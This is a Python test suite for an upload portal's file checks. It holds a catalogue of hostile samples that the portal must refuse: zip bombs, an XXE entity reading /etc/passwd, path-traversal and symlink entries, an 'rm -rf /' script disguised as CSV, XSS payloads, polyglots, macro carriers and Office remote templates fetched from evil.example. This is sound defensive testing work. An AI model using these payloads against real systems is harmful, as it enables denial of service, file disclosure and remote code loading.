"""Families of bad uploads: each is refused with a reason, quickly, and leaves nothing on disk; good ones are taken."""

import json
import stat
import struct
import tracemalloc
import zipfile
import zlib

import pytest

from tests.portal.files import good_files as good
from tests.portal.files import pdf_files
from tests.portal.files.good_files import GOOD_FILES, OFFICE_RELATIONS, office, open_document, relation

CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
ZEROS = bytes(1024 * 1024)


def remote(kind, target):
    return office("docx", relations=relation(f"{OFFICE_RELATIONS}/{kind}", target, external=True))


def bomb(megabytes):
    return office("docx", extra={"word/media/zeros.xml": ZEROS * megabytes})


def many_layers():
    return office("docx", extra={"word/media/inner.zip": good.zipped({"inner.zip": good.zipped({"a": ZEROS})})})


def size_lied_about():
    """The index says that an entry unpacks to 1,000 bytes; in truth it unpacks to 64 MiB."""
    content = office("docx", extra={"word/big.xml": ZEROS * 64})
    return content.replace(struct.pack("<L", 64 * 1024 * 1024), struct.pack("<L", 1000))


def encrypted_flag():
    """A zip whose every entry claims to be encrypted."""
    content = bytearray(office("docx"))
    place = 0
    while (place := content.find(b"PK\1\2", place)) >= 0:
        content[place + 8] |= 1
        place += 4
    return bytes(content)


def overlapping():
    """Two index entries that unpack the same bytes (the newer zip bomb)."""
    content = good.zipped({"[Content_Types].xml": b"<Types/>", "word/a.xml": ZEROS, "word/b.xml": b"x"})
    with zipfile.ZipFile(good.io.BytesIO(content)) as archive:
        first, second = archive.getinfo("word/a.xml"), archive.getinfo("word/b.xml")
    index = content.index(b"PK\1\2")
    there = struct.pack("<L", second.header_offset) + b"word/b"
    elsewhere = struct.pack("<L", first.header_offset) + b"word/b"
    return content[:index] + content[index:].replace(there, elsewhere)


def doubled_name():
    return good.zipped({"word/document.xml": "<a/>", "word/documenT.xml": "<b/>"}).replace(b"documenT", b"document")


def linked():
    """A zip whose entry is a symbolic link to another file."""
    target = good.io.BytesIO(office("docx"))
    with zipfile.ZipFile(target, "a") as archive:
        entry = zipfile.ZipInfo("word/media/a.png")
        entry.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(entry, "/etc/passwd")
    return target.getvalue()


def damaged_chunk():
    content = good.png()
    return content[:40] + bytes([content[40] ^ 1]) + content[41:]


def entities():
    return office("docx", extra={"word/extra.xml": '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]><a>&c;</a>'})


BAD_FILES = {
    "nothing in it": ("empty.pdf", b""),
    "no extension": ("README", b"text"),
    "type not accepted": ("tool.exe", b"MZ" + bytes(100)),
    "old Office type": ("old.doc", CFB),
    "archive": ("all.zip", good.zipped({"a.txt": b"a"})),
    "executable behind a document name": ("policy.pdf.exe", good.pdf()),
    "executable named as PDF": ("policy.pdf", b"MZ\x90\0" + bytes(200)),
    "picture named as PDF": ("policy.pdf", good.png()),
    "PDF named as picture": ("screen.png", good.pdf()),
    "JPEG named as PNG": ("screen.png", good.jpeg()),
    "archive named as docx": ("all.docx", good.zipped({"a.txt": b"a"})),
    "xlsx named as docx": ("numbers.docx", office("xlsx")),
    "ods named as odt": ("table.odt", open_document("ods")),
    "HTML named as text": ("page.txt", b"<!doctype html><script>alert(1)</script>"),
    "HTML behind a mark": ("page.txt", "\ufeff\ufeff<html><script>alert(1)</script>".encode()),
    "HTML behind a comment": ("page.log", b"<!-- a --><html><script>alert(1)</script>"),
    "PDF named as log": ("policy.log", b"2026-01-01 ok\n" + good.pdf()),
    "PDF named as text": ("policy.txt", good.pdf()),
    "page named as XML": ("page.xml", b"<html xmlns='http://www.w3.org/1999/xhtml'/>"),
    "drawing inside XML": ("page.xml", b"<a><b xmlns='http://www.w3.org/2000/svg'/></a>"),
    "office document as XML": ("page.xml", b"<?mso-application progid='Word.Document'?><a/>"),
    "XML with a style": ("page.xml", b"<?xml-stylesheet href='a.xsl'?><a/>"),
    "XML with entities": ("page.xml", b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>"),
    "XML cut off": ("page.xml", b"<a><b>"),
    "XML nested 5,000 deep": ("page.xml", b"<a>" * 5_000 + b"</a>" * 5_000),
    "link inside an archive": ("link.docx", linked()),
    "SVG named as text": ("drawing.txt", b"<svg onload='alert(1)'/>"),
    "script named as CSV": ("run.csv", b"#!/bin/sh\nrm -rf /\n"),
    "binary named as text": ("notes.txt", bytes(range(256))),
    "binary named as CSV": ("notes.csv", b"a;b\n\0\0\0"),
    "PDF and zip at once": ("both.pdf", good.pdf() + good.zipped({"a.exe": b"MZ"})),
    "PDF and page at once": ("both.pdf", good.pdf(after=b"<script>alert(1)</script>")),
    "PDF inside the start of a zip": ("both.docx", good.zipped({"%PDF-1.7": b"x"}, compression=0) + good.pdf()),
    "picture and zip at once": ("both.png", good.png(after=good.zipped({"a.exe": b"MZ"}))),
    "JPEG and zip at once": ("both.jpg", good.jpeg(after=good.zipped({"a.exe": b"MZ"}))),
    "JPEG and page at once": ("both.jpg", good.jpeg(after=b"<html><script>alert(1)</script>")),
    "JPEG and rar at once": ("both.jpg", good.jpeg(after=b"Rar!\x1a\x07\x01\0")),
    "bomb of 300 MiB": ("bomb.docx", bomb(300)),
    "bomb by ratio": ("bomb.docx", bomb(20)),
    "bomb by a lie about the size": ("bomb.docx", size_lied_about()),
    "bomb by overlap": ("bomb.docx", overlapping()),
    "bomb of many entries": ("bomb.docx", good.zipped({f"word/{n}.xml": b"" for n in range(6_000)})),
    "archives within archives": ("nest.docx", many_layers()),
    "document within a document": ("nest.docx", office("docx", extra={"word/embeddings/a.docx": office("docx")})),
    "workbook within a workbook within a document": (
        "nest.pptx",
        office(
            "pptx",
            extra={
                "ppt/embeddings/a.xlsx": office("xlsx", extra={"xl/embeddings/b.xlsx": office("xlsx")}),
            },
        ),
    ),
    "bomb within a chart's workbook": (
        "nest.pptx",
        office("pptx", extra={"ppt/embeddings/a.xlsx": office("xlsx", extra={"xl/a.xml": ZEROS * 20})}),
    ),
    "two entries of one name": ("twice.docx", doubled_name()),
    "entry outside the archive": ("slip.docx", office("docx", extra={"../../etc/passwd": b"x"})),
    "entry at the root": ("slip.docx", office("docx", extra={"/etc/passwd": b"x"})),
    "encrypted entries": ("locked.docx", encrypted_flag()),
    "password-protected Office": ("locked.docx", CFB),
    "encrypted OpenDocument": ("locked.odt", open_document("odt", manifest="<manifest:encryption-data/>")),
    "macros in docx": ("macros.docx", office("docx", extra={"word/vbaProject.bin": CFB})),
    "docm named as docx": (
        "macros.docx",
        office("docx", main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
    ),
    "macro sheet": ("macros.xlsx", office("xlsx", extra={"xl/macrosheets/sheet1.xml": b"<a/>"})),
    "Basic in OpenDocument": ("macros.odt", open_document("odt", extra={"Basic/Standard/Module1.xml": b"<a/>"})),
    "data exchange link": ("dde.xlsx", office("xlsx", extra={"xl/externalLinks/a.xml": b"<x><ddeLink/></x>"})),
    "embedded object": ("object.docx", office("docx", extra={"word/embeddings/oleObject1.bin": CFB})),
    "embedded programme without its name": ("object.docx", office("docx", extra={"word/media/a.jpeg": b"MZ\x90"})),
    "remote template": ("remote.docx", remote("attachedTemplate", "https://evil.example/t.dotm")),
    "template on a network share": ("remote.docx", remote("attachedTemplate", "file://evil.example/share/t.dotm")),
    "remote picture": ("remote.docx", remote("image", "http://evil.example/pixel.png")),
    "entities": ("laughs.docx", entities()),
    "docx cut off": ("cut.docx", office("docx")[:-40]),
    "docx with a flipped bit": ("flip.docx", office("docx").replace(b"PK\3\4", b"PK\3\5", 2)),
    "PDF cut off": ("cut.pdf", good.pdf()[:-40]),
    "PDF after other content": ("late.pdf", b"GIF89a" + good.pdf()),
    "PNG of 50,000 pixels": ("huge.png", good.png(50_000, 50_000)),
    "JPEG of 50,000 pixels": ("huge.jpg", good.jpeg(50_000, 50_000)),
    "PNG cut off": ("cut.png", good.png()[:-12]),
    "PNG damaged": ("damaged.png", damaged_chunk()),
    "JPEG cut off": ("cut.jpg", good.jpeg()[:-2]),
    "JPEG of its first bytes only": ("cut.jpg", good.jpeg()[:20]),
    "JSON cut off": ("cut.json", b'{"a": [1, 2'),
    "JSON nested 100,000 deep": ("deep.json", b"[" * 100_000 + b"]" * 100_000),
    "JSON of very many keys": ("keys.json", b"{" + b",".join(b'"key%d":1' % n for n in range(600_000))),
    "JSON that is a word": ("word.json", b'"word"'),
    "JSON in UTF-16": ("utf16.json", json.dumps({"a": 1}).encode("utf-16")),
    "name with a control character": ("a\x07b.pdf", good.pdf()),
    "name that reads backwards": ("policy\u202efdp.exe.pdf", good.pdf()),
    "name with an invisible character": ("pol\u200bicy.pdf", good.pdf()),
    "name with a path": ("../../etc/passwd.pdf", good.pdf()),
    "name with a Windows path": ("C:\\Users\\policy.pdf", good.pdf()),
    "name of 300 characters": ("a" * 296 + ".pdf", good.pdf()),
    "name of an extension only": (".pdf", good.pdf()),
}


@pytest.mark.parametrize("family", BAD_FILES)
def test_a_bad_file_is_refused_and_leaves_nothing(family, send, on_disk):
    name, content = BAD_FILES[family]

    upload = send(name, content)

    assert upload.refusal.endswith(".")
    assert "stumble" not in upload.refusal
    assert on_disk() == []


@pytest.mark.parametrize("family", ["bomb of 300 MiB", "JSON nested 100,000 deep", "JSON of very many keys"])
def test_a_bomb_takes_little_memory(family, send):
    tracemalloc.start()

    send(*BAD_FILES[family])

    _now, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < 32 * 1024 * 1024


@pytest.mark.parametrize("name", GOOD_FILES)
def test_a_good_file_is_taken(name, send, on_disk):
    upload = send(name, GOOD_FILES[name])

    assert upload.refusal == ""
    assert upload.size == len(GOOD_FILES[name])
    assert upload.part.open().read() == GOOD_FILES[name]
    assert len(on_disk()) == 1


def test_every_accepted_type_has_a_good_file():
    from portal.files import names, types

    assert {names.extension_of(name) for name in GOOD_FILES} == set(types.TYPES)


def test_a_check_that_stumbles_refuses(send):
    frame_too_short = b"\xff\xd8\xff\xc0\0\3\0\xff\xda\0\2\xff\xd9"

    assert "damaged" in send("odd.jpg", frame_too_short).refusal


def test_a_random_picture_inside_a_pdf_is_no_reason(send):
    noise = zlib.compress(bytes(range(256)) * 4000)
    picture = pdf_files.stream(noise, b"/Type /XObject /Subtype /Image /Filter /FlateDecode")

    assert send("picture.pdf", good.pdf(picture)).refusal == ""


def test_a_name_of_91_japanese_characters_is_taken(send):
    assert send("監" * 91 + ".pdf", good.pdf()).refusal == ""


LIMITS = {
    "name of 300 characters": "has 300 characters. Shorten it to at most 200",
    "bomb of 300 MiB": "unpacks to 301 MB, and at most 256 MB",
    "bomb by ratio": "more than 150 times its size",
    "bomb of many entries": "more than 5,000 parts".replace(",", ""),
    "PNG of 50,000 pixels": "at most 20000 on each side",
    "XML nested 5,000 deep": "deeper than 1000 levels",
}


@pytest.mark.parametrize("family", LIMITS)
def test_a_refusal_says_which_limit_was_hit(family, send):
    assert LIMITS[family] in send(*BAD_FILES[family]).refusal
